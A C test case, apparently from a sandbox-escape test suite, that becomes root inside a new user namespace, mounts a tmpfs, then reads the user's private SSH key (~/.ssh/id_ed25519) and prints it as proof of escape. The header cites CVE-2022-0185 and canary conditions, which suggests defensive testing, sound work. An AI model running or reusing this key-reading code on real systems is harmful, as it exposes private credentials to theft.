/*
 * family: injection
 * tries: become root in a nested user namespace (unshare CLONE_NEWUSER|CLONE_NEWNS, uid map 0), mount there, then use that root to read the user's SSH key outside and print it
 * source: https://nvd.nist.gov/vuln/detail/CVE-2022-0185
 * exfil: yes
 * stopped-when: canary-unread
 * attempted-when: marker
 *
 * Succeeds only if the harm outside works (the key's text on stdout); the
 * namespace and its tmpfs mount alone are not harm.
 */
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

static void
put(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY);

	if (fd >= 0) {
		if (write(fd, text, strlen(text)) < 0)
			printf("%s: %s\n", path, strerror(errno));
		close(fd);
	}
}

int
main(int argc, char **argv)
{
	char map[64], path[4096], buf[65536];
	unsigned uid = (unsigned)getuid(), gid = (unsigned)getgid();
	ssize_t n;
	int fd;

	if (argc < 9) {
		fprintf(stderr,
		    "usage: TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES\n");
		return 2;
	}
	fprintf(stderr, "ATTEMPTED %s\n", argv[1]);
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0) {
		printf("unshare: %s\n", strerror(errno));
		return 1;
	}
	put("/proc/self/setgroups", "deny");
	snprintf(map, sizeof(map), "0 %u 1", uid);
	put("/proc/self/uid_map", map);
	snprintf(map, sizeof(map), "0 %u 1", gid);
	put("/proc/self/gid_map", map);
	printf("uid %d in a new user namespace\n", (int)getuid());
	/* Root's powers in there: a tmpfs of its own, in the workspace. */
	mkdir("nsroot", 0700);
	if (mount("none", "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0 ||
	    mount("tmpfs", "nsroot", "tmpfs", 0, "size=1m") < 0)
		printf("mount: %s\n", strerror(errno));
	else
		printf("mounted a tmpfs on ./nsroot\n");
	snprintf(path, sizeof(path), "%s/.ssh/id_ed25519", argv[2]);
	if ((fd = open(path, O_RDONLY)) < 0) {
		printf("key: %s\n", strerror(errno));
		return 1;
	}
	while ((n = read(fd, buf, sizeof(buf))) > 0)
		fwrite(buf, 1, (size_t)n, stdout);
	close(fd);
	return 0;
}
